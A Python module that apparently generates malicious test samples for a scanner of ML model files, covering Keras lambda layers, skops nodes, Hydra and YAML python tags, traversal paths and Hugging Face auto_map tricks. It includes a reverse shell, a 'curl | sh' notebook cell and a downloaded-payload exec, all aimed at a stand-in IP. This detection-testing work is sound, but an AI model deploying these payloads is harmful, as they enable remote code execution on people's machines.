"""Object graphs that a loader builds from JSON or HDF5: Keras, skops, and configurations of Hugging Face repositories."""
import base64
import json

from assembly import Call, Name, dump
from samples import zipped

LAMBDA = base64.b64encode(b"\xe3\x01\0\0\0").decode()
METADATA = json.dumps({"keras_version": "3.5.0", "date_saved": "2024-10-10@10:10:10"}).encode()
EVIL = dump(Call(Name("posix", "system"), "echo assay"))


def layer(class_name, module="keras.layers", config=None, registered=None, **more):
    return {"module": module, "class_name": class_name, "config": config or {"name": "a"}, "registered_name": registered, **more}


def sequential(*layers, **more):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": list(layers)}, "registered_name": None, **more}


def function(module, name, registered=None):
    return {"module": module, "class_name": "function", "config": name, "registered_name": registered or name}


def keras(config, extra=()):
    text = config if isinstance(config, bytes) else json.dumps(config).encode()
    return zipped([("metadata.json", METADATA), ("config.json", text), ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))] + list(extra))


CODE = {"class_name": "__lambda__", "config": {"code": LAMBDA, "defaults": None, "closure": None}}
DENSE = layer("Dense", config={"units": 1, "activation": "relu"})

KERAS = {
    "lambda_functional": ({"module": "keras.src.models.functional", "class_name": "Functional", "config": {"name": "f", "layers": [layer("Lambda", config={"name": "l", "function": CODE})], "input_layers": [], "output_layers": []}, "registered_name": "Functional"}, "critical"),
    "lambda_in_timedistributed": (sequential(layer("TimeDistributed", config={"layer": layer("Lambda", config={"function": CODE})})), "critical"),
    "lambda_in_bidirectional": (sequential(layer("Bidirectional", config={"layer": layer("Bidirectional", config={"layer": layer("Lambda", config={"function": CODE})})})), "critical"),
    "lambda_no_class": (sequential(layer("Dense", config={"units": 1, "activation": CODE})), "critical"),
    "lambda_in_initializer": (sequential(layer("Dense", config={"units": 1, "kernel_initializer": CODE})), "critical"),
    "lambda_in_compile_metrics": (sequential(DENSE, compile_config={"optimizer": "adam", "metrics": [[CODE]]}), "critical"),
    "lambda_keras2": (sequential({"class_name": "Lambda", "config": {"name": "l", "function": [LAMBDA, None, None], "function_type": "lambda"}}), "critical"),
    "lambda_registered": (sequential(layer("Dense", registered="keras.layers>Lambda", config={"function": CODE})), "critical"),
    "lambda_src_path": (sequential(layer("Lambda", module="keras.src.layers.core.lambda_layer", config={"function": function("builtins", "eval")})), "critical"),
    "lambda_tf_keras": (sequential(layer("Lambda", module="tf_keras.layers", config={"function": CODE})), "critical"),
    "lambda_output_shape": (sequential(layer("Lambda", config={"function": function("keras.activations", "relu"), "output_shape": CODE})), "critical"),
    "function_os": (sequential(layer("Activation", config={"activation": function("os", "system")})), "critical"),
    "function_subprocess": (sequential(layer("Dense", config={"activation": function("subprocess", "getoutput")})), "critical"),
    "function_get_file": (sequential(layer("Dense", config={"activation": function("keras.utils", "get_file")})), "high"),
    "function_load_model": (sequential(layer("Dense", config={"activation": function("keras.models", "load_model")})), "high"),
    "function_numpy_load": (sequential(layer("Dense", config={"activation": function("numpy", "load")})), "high"),
    "class_popen": ({"module": "subprocess", "class_name": "Popen", "config": {"args": ["echo"]}, "registered_name": None}, "critical"),
    "class_run_module": (sequential({"module": "runpy", "class_name": "run_module", "config": {"mod_name": "a"}}), "critical"),
    "class_dotted": (sequential({"module": "keras.src.backend.os", "class_name": "system", "config": {}}), "high"),
    "class_ctypes": (sequential({"module": "ctypes", "class_name": "CDLL", "config": {"name": "a.so"}}), "critical"),
    "build_config": (sequential({**DENSE, "build_config": {"module": "os", "class_name": "system", "config": {"command": "echo"}}}), "critical"),
    "compile_optimizer": (sequential(DENSE, compile_config={"optimizer": {"module": "builtins", "class_name": "exec", "config": {}}}), "critical"),
    "compile_loss_dict": (sequential(DENSE, compile_config={"loss": {"out": function("builtins", "exec")}}), "critical"),
    "callbacks": (sequential(DENSE, callbacks=[{"module": "keras.callbacks", "class_name": "LambdaCallback", "config": {"on_epoch_end": CODE}}]), "critical"),
    "custom_class": (sequential(layer("Mine", module="my_package.layers", registered="mine>Mine")), "medium"),
    "custom_function": (sequential(layer("Dense", config={"activation": function("my_package", "act")})), "medium"),
    "registered_only": (sequential(layer("Mine", module=None, registered="Evil>Run")), "medium"),
    "torch_wrapper": (sequential(layer("TorchModuleWrapper", config={"name": "w", "module": {"class_name": "__torch_module__", "config": {"buffer": base64.b64encode(EVIL).decode()}}})), "critical"),
    "tf_sm_layer": (sequential(layer("TFSMLayer", config={"filepath": "http://198.51.100.7/m", "call_endpoint": "serve"})), "high"),
    "vocabulary_file": (sequential(layer("TextVectorization", config={"vocabulary": "/etc/passwd"})), "high"),
    "vocabulary_url": (sequential(layer("IntegerLookup", config={"vocabulary": "http://198.51.100.7/v"})), "high"),
    "vocabulary_relative": (sequential(layer("StringLookup", config={"vocabulary": "../../../etc/passwd"})), "high"),
    "deep": (json.loads('{"module":"keras","class_name":"Sequential","config":{"layers":[' + '{"module":"keras","class_name":"Sequential","config":{"layers":[' * 30 + json.dumps(layer("Lambda", config={"function": CODE})) + "]}}" * 30 + "]}}"), "critical"),
    "duplicate_key": (b'{"module":"keras","class_name":"Sequential","config":{"layers":[]},"config":{"layers":[{"class_name":"Lambda","module":"keras.layers","config":{"function":{"class_name":"__lambda__","config":{"code":"4wE="}}}}]}}', "critical"),
    "escaped_name": (json.dumps(sequential(layer("Lambda", config={"function": CODE}))).replace("Lambda", "\\u004cambda").encode(), "critical"),
}


def skops(schema, extra=()):
    base = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "protocol": 2, "_skops_version": "0.11"}
    return zipped([("schema.json", json.dumps({**base, **schema}).encode())] + list(extra))


def repositories(samples):
    def add(path, data, technique, severity):
        samples.attack("repository/" + path, data if isinstance(data, (str, bytes)) else json.dumps(data), technique, severity, "hf-config")

    config = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "vocab_size": 32000}
    add("remote/config.json", {**config, "auto_map": {"AutoModelForCausalLM": "other/repo--modeling.Model"}}, "auto_map to another repository", "high")
    add("remote_tok/tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["other/repo--tokenization.Tok", None]}}, "tokenizer from another repository", "high")
    add("nested/config.json", {**config, "text_config": {"auto_map": {"AutoConfig": "x/y--configuration.C"}}}, "auto_map in a nested config", "high")
    add("trust/config.json", {**config, "trust_remote_code": True, "auto_map": {"AutoModel": "modeling.M"}}, "trust_remote_code with code that is not there", "medium")
    samples.write("malicious/repository/local/modeling.py", "import os\nimport torch\n\nos.system('echo assay')\n\n\nclass M(torch.nn.Module):\n    pass\n")
    add("local/config.json", {**config, "auto_map": {"AutoModel": "modeling.M"}}, "auto_map to code that runs a command", "medium")
    add("missing/config.json", {**config, "auto_map": {"AutoModel": "modeling.M"}}, "auto_map to a file that is not there", "medium")
    add("traversal/config.json", {**config, "auto_map": {"AutoModel": "../../evil.M"}}, "auto_map out of the folder", "medium")
    add("pipelines/config.json", {**config, "custom_pipelines": {"x": {"impl": "pipe.Pipe", "pt": ["AutoModel"]}}}, "custom pipeline", "medium")
    add("adapter/adapter_config.json", {"peft_type": "LORA", "base_model_name_or_path": "../../../etc", "auto_mapping": {"base_model_class": "M", "parent_library": "evil_module"}}, "PEFT imports a library by name", "medium")
    add("diffusers/model_index.json", {"_class_name": ["pipeline", "MyPipe"], "unet": ["unet", "MyUnet"]}, "diffusers pipeline code of its own", "medium")
    add("sentence/modules.json", [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Evil"}], "sentence-transformers module of its own", "medium")
    add("hydra/config.yaml", "model:\n  _target_: os.system\n  _args_: [echo]\n", "Hydra target", "critical")
    add("hydra_nested/config.yaml", "a:\n  b:\n    - c: {_target_: subprocess.Popen, args: [echo]}\n", "nested Hydra target", "critical")
    add("hydra_partial/config.yaml", "a: {_target_: builtins.eval, _partial_: true}\n", "partial Hydra target", "critical")
    add("lightning/hparams.yaml", "model:\n  class_path: os.system\n  init_args: {command: echo}\n", "class_path of a Lightning CLI", "high")
    add("mmengine/config.json", {"model": {"type": "os.system", "command": "echo"}}, "registry type that is a function", "medium")
    for number, tag in enumerate(["!!python/object/apply:os.system [echo]", "!!python/object/new:subprocess.Popen [echo]", "!!python/name:os.system ''",
                                  "!!python/module:os ''", "!<tag:yaml.org,2002:python/object/apply:os.system> [echo]", "!!python/object:__main__.X {}",
                                  "!!python/tuple [1, !!python/object/apply:builtins.eval ['1']]", "&a !!python/object/apply:os.popen [echo]"]):
        severity = {2: "high", 3: "high", 5: "low"}.get(number, "critical")
        add(f"yaml{number}/config.yaml", f"a: 1\nb: {tag}\n", f"YAML tag {tag.split()[0]}", severity)
    add("yaml_directive/config.yaml", "%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\na: !p!os.system [echo]\n", "YAML tag by a directive", "critical")
    add("code/setup.py", "from setuptools import setup\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nsetup(name='x')\n", "setup.py that runs an encoded payload", "high")
    add("code2/modeling.py", "import urllib.request\nexec(urllib.request.urlopen('http://198.51.100.7/p').read())\n", "modelling code that runs what it downloads", "high")
    add("code3/handler.py", "__import__('o' + 's').system('echo')\n", "import by a computed name", "high")
    add("code4/utils.py", "getattr(__import__('subprocess'), 'Po' + 'pen')(['echo'])\n", "attribute by a computed name", "high")
    add("code5/model.py", "import socket, subprocess, os\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n", "reverse shell", "high")
    add("code6/modeling.py", "import pickle\nx = pickle.loads(bytes.fromhex('80044e2e'))\n", "pickle in source", "medium")
    add("code7/m.py", "import ctypes\nctypes.CDLL('./libassay.so')\n", "native library", "medium")
    add("code8/m.py", "eval(compile(open(__file__ + '.txt').read(), 'x', 'exec'))\n", "compiles another file", "high")
    add("code9/hubconf.py", "import torch\nmodel = torch.hub.load('someone/else', 'run', trust_repo=True)\n", "runs another repository's code when imported", "medium")
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "source": ["import os\n", "os.system('curl http://198.51.100.7/a | sh')\n"], "outputs": [], "metadata": {}, "execution_count": None}]}
    add("notebook/demo.ipynb", notebook, "notebook cell that runs a download", "medium")
    add("requirements/requirements.txt", "torch\nassay @ http://198.51.100.7/assay.tar.gz\n", "requirement from a raw address", "low")
    add("index/model.safetensors.index.json", {"metadata": {}, "weight_map": {"a": "../../../etc/passwd"}}, "shard outside of the folder", "medium")
    add("onnx_config/ort_config.json", {"session_options": {"custom_ops_library": "/tmp/evil.so"}}, "custom operator library", "low")


def build(samples):
    for name, (config, severity) in KERAS.items():
        samples.attack(f"keras/{name}.keras", keras(config), f"keras: {name}", severity)
    samples.attack("keras/pickle_asset.keras", keras(sequential(DENSE), [("assets/vocab.pkl", EVIL)]), "keras: pickle among the assets", "high")
    samples.attack("keras/traversal.keras", keras(sequential(DENSE), [("../../assay.py", b"x")]), "keras: member that leaves", "high")
    samples.attack("keras/model.json", json.dumps(sequential(layer("Lambda", config={"function": CODE}))), "keras: model as JSON", "critical")
    samples.attack("keras/model.yaml", "class_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config: {function: ['" + LAMBDA + "', null, null]}\n", "keras: model as YAML", "high")

    def node(loader, **more):
        return {"__loader__": loader, **more}

    content = {
        "function": (node("FunctionNode", __class__="system", __module__="os", content={"module_path": "os", "function": "system"}), "critical"),
        "object": (node("ObjectNode", __class__="Popen", __module__="subprocess", content=None), "critical"),
        "method": (node("MethodNode", __class__="method", __module__="builtins", content={"func": "system", "obj": node("TypeNode", __class__="path", __module__="os", content=None)}), "high"),
        "operator": (node("OperatorFuncNode", __class__="methodcaller", __module__="operator", attrs=node("TupleNode", __class__="tuple", __module__="builtins", content=[])), "high"),
        "partial": (node("PartialNode", __class__="partial", __module__="functools", content={"func": node("FunctionNode", __class__="eval", __module__="builtins", content={"module_path": "builtins", "function": "eval"}), "args": node("TupleNode", __class__="tuple", __module__="builtins", content=[])}), "critical"),
        "type": (node("TypeNode", __class__="CDLL", __module__="ctypes", content=None), "high"),
        "nested": (node("ListNode", __class__="list", __module__="builtins", content=[node("DictNode", __class__="dict", __module__="builtins", content={"a": node("FunctionNode", __class__="exec", __module__="builtins", content={"module_path": "builtins", "function": "exec"})})]), "critical"),
    }
    for name, (value, severity) in content.items():
        samples.attack(f"skops/{name}.skops", skops({"content": {"a": value}}), f"skops: {name}", severity)
    samples.attack("skops/array.skops", skops({"content": {}}, [("1.npy", b"\x93NUMPY\x01\0\x3a\0{'descr': '|O', 'fortran_order': False, 'shape': (1,)}    \n" + EVIL)]), "skops: object array", "critical")
    repositories(samples)
